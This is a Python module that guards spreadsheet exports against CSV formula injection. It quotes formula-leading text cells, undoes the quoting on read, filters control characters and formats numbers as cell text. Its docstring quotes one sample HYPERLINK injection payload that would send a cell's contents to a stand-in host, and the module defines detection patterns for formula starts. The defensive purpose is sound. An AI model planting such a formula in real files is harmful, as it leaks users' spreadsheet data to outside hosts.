"""Text cells that spreadsheets cannot run and files that every reader can hold.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a line break
is a formula to Excel, LibreOffice and Google Sheets when they open a CSV file
(and when someone edits the cell of a workbook): a name such as
``=HYPERLINK("http://x/?q="&B2,"Click")`` would run on the coordinator's
computer. Every exported text cell of that kind is written with a single quote
before it (the OWASP rule for CSV injection); numbers such as ``-25.3`` are
numbers, not formulas, and stay as they are. Reading a dataset takes the quote
away again, so an export loads back equal.

Ids may hold no control character at all (not even a tab or a line break);
other text may hold tabs and line breaks but none of the other C0 controls,
which an ``.xlsx`` workbook cannot store.

Examples
--------
>>> inert('=HYPERLINK("http://x")'), inert("-25.3"), inert("'=1"), inert("Itá")
('\\'=HYPERLINK("http://x")', '-25.3', "''=1", 'Itá')
>>> [restored(inert(t)) for t in ("=1+1", "@SUM(A1)", "-", "'-x", "Itá", "-1,5")]
['=1+1', '@SUM(A1)', '-', "'-x", 'Itá', '-1,5']
>>> first_control("W\\x001"), first_control("W1"), first_unwritable("a\\tb"), first_unwritable("a\\x01")
('\\\\x00', None, None, '\\\\x01')
"""

from __future__ import annotations

import datetime as dt
import re

import numpy as np
import pandas as pd

__all__ = [
    "CONTROL",
    "UNWRITABLE",
    "as_objects",
    "cell_text",
    "first_control",
    "first_unwritable",
    "inert",
    "restored",
    "restored_cells",
    "workbook_text",
]

#: The first characters that make a spreadsheet read a cell as a formula, after any quotes
#: (and a line feed, which a workbook's XML makes of a carriage return).
_FORMULA = re.compile(r"'*[=+\-@\t\r\n]")
#: The characters of :data:`_FORMULA` after its quotes.
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
#: A number as people write it (a negative one is not a formula).
_NUMBER = re.compile(r"[+-]?(\d+([.,]\d+)*([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?")
#: Every control character (C0, DEL and C1): none may be in an id.
CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f]")
#: The C0 controls other than tab, line feed and carriage return: no workbook can hold them
#: (``openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE``).
UNWRITABLE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def inert(text: str) -> str:
    """``text`` as a cell no spreadsheet runs: a quote before a formula's first character."""
    if _FORMULA.match(text) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def restored(text: str) -> str:
    """The text an :func:`inert` cell was made from (other cells as they are)."""
    if text.startswith("'") and _FORMULA.match(text, 1):
        return text[1:]
    return text


def as_objects(cells: np.ndarray | pd.Categorical) -> np.ndarray:
    """A column's cells as an array of Python text (a categorical column's values looked up).

    Examples
    --------
    >>> as_objects(pd.Categorical(["b", "a", "b"])).tolist()
    ['b', 'a', 'b']
    """
    if isinstance(cells, pd.Categorical):
        return np.asarray(cells.categories, dtype=object)[cells.codes]
    return np.asarray(cells, dtype=object)


def restored_cells(cells: np.ndarray | pd.Categorical) -> np.ndarray:
    """:func:`restored` on a column of text cells (a new array only when one changes).

    Examples
    --------
    >>> restored_cells(np.array(["'=1", "''+2", "'x", "-1"], dtype=np.dtypes.StringDType())).tolist()
    ['=1', "'+2", "'x", '-1']
    """
    if isinstance(cells, pd.Categorical):
        cells = as_objects(cells)
    if cells.dtype == object:  # Python text as read: a string array only for a column with a quote
        joined = "\x00".join(cells.tolist())  # one scan: a cell beginning with a quote, or not
        if not joined.startswith("'") and "\x00'" not in joined:
            return cells
        cells = np.asarray(cells, dtype=np.dtypes.StringDType())
    quoted = np.flatnonzero(np.strings.startswith(cells, "'"))
    if not len(quoted):
        return cells
    after = np.strings.slice(np.strings.lstrip(cells[quoted], "'"), 0, 1)
    formula = np.zeros(len(quoted), dtype=bool)
    for start in _FORMULA_STARTS:
        formula |= after == start
    if not formula.any():
        return cells
    cells = cells.copy()
    cells[quoted[formula]] = np.strings.slice(cells[quoted[formula]], 1, None)
    return cells


def workbook_text(text: str) -> str:
    """An inert cell that a workbook can hold: a character it cannot is written as U+FFFD."""
    return UNWRITABLE.sub("\ufffd", inert(text))


def _first(pattern: re.Pattern[str], text: str) -> str | None:
    found = pattern.search(text)
    return None if found is None else repr(found.group())[1:-1]


def first_control(text: str) -> str | None:
    """The first control character of ``text``, escaped as Python writes it (None when it has none)."""
    return _first(CONTROL, text)


def first_unwritable(text: str) -> str | None:
    """The first character of ``text`` a workbook cannot hold, escaped (None when it has none)."""
    return _first(UNWRITABLE, text)


#: A number 1.125 could be read as 1125 (digit grouping); 1.1250 is read one way only.
_GROUPS_OF_THREE = re.compile(r"-?[1-9]\d{0,2}\.\d{3}")


def cell_text(value: object) -> str:
    """A cell as text: ``4.0`` as ``4``, numbers in full and read one way only (never ``1e-05``;
    ``1.125`` as ``1.1250``), booleans as true/false, a date as ``2025-09-30``.

    Examples
    --------
    >>> [cell_text(v) for v in (4.0, 1e-05, 1.125, 0.125, True, dt.datetime(2025, 9, 30))]
    ['4', '0.00001', '1.1250', '0.125', 'true', '2025-09-30']
    """
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, float):
        if value.is_integer():
            return str(int(value))
        text = np.format_float_positional(value, trim="-")
        # 1.125 could be read as 1125 (digit grouping); 1.1250 is read one way only.
        return text + "0" if _GROUPS_OF_THREE.fullmatch(text) else text
    if isinstance(value, dt.datetime):
        return value.date().isoformat() if value.time() == dt.time() else value.isoformat()
    if isinstance(value, dt.date):
        return value.isoformat()
    return str(value)
